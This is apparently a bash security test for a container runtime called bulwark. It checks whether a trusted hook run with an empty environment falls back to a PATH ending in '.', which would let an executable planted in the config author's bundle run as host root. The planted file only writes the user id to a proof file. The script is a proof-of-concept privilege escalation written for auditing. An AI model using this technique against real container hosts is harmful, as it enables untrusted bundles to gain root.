#!/bin/bash
# shellcheck disable=SC2016 # jq filters use their own $variables
# Attack: a trusted hook written in bash calls an optional tool only when
# it is installed (`command -v TOOL && TOOL ...`, a common pattern). The
# config gives the hook no env: bulwark runs it with an empty environment
# (src/runtime/hooks.c exec_hook), so bash uses its built-in PATH, which
# ends in "." (/usr/local/bin:...:/sbin:.), and host hooks run with the
# bundle as working directory. The bundle is the config author's: an
# executable named like the tool in the bundle runs as host root. The env
# check of BW110 (PATH limited to the host's directories) never sees a
# PATH, so it has nothing to judge.
# Expected safe outcome: a trusted hook without a PATH in its env gets a
#   PATH of the host's directories only (or none that bash fills with ".").
# Observed (2026-12-06): the bundle's file runs as host uid 0.
set -u
source "$(dirname "$0")/lib.sh"
setup_bundle; trap 'teardown_bundle; rm -rf "$S"' EXIT
S=$(mktemp -d /tmp/bulwark-a5.XXXXXX); chmod 755 "$S"
proof=$S/dot-proof
printf '#!/bin/bash\nif command -v bw-a5-optional-tool >/dev/null; then bw-a5-optional-tool; fi\nexit 0\n' >"$S/trusted-hook"
chmod 755 "$S/trusted-hook"
echo '{"trustedHooks": ["'"$S/trusted-hook"'"]}' >"$S/policy.json"
printf '#!/bin/sh\nid -u > %s\n' "$proof" >"$BUNDLE/bw-a5-optional-tool"; chmod 755 "$BUNDLE/bw-a5-optional-tool"
config_edit --arg h "$S/trusted-hook" '.hooks = {"createRuntime":[{"path":$h,"args":["trusted-hook"]}]}'
"$BULWARK" --root "$BW_ROOT" --policy "$S/policy.json" --profile restricted run --bundle "$BUNDLE" a5dot$$
if [[ -s $proof ]]; then
  verdict BROKEN "the bundle's file ran from the trusted bash hook as host uid $(cat "$proof")"
else
  verdict SAFE "the bundle's file did not run"
fi
